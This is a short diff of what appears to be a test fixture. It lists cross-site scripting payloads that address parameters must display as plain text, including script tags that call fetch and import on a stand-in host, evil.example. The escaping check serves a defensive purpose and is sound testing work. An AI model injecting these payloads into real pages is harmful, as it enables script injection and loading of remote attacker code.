@@ -1,4 +1,4 @@
-/** Texts that an address may carry and that must stay texts. S06 */
+/** Hostile texts for parameters of addresses. Each must be shown as plain text. S06 */
 const calls = ['alert(1)', 'document.title=1', 'fetch("//evil.example")', 'top.x=1', 'import("//evil.example/x.js")'];
 const elements = calls.flatMap((call) => [
   `<script>${call}</script>`,
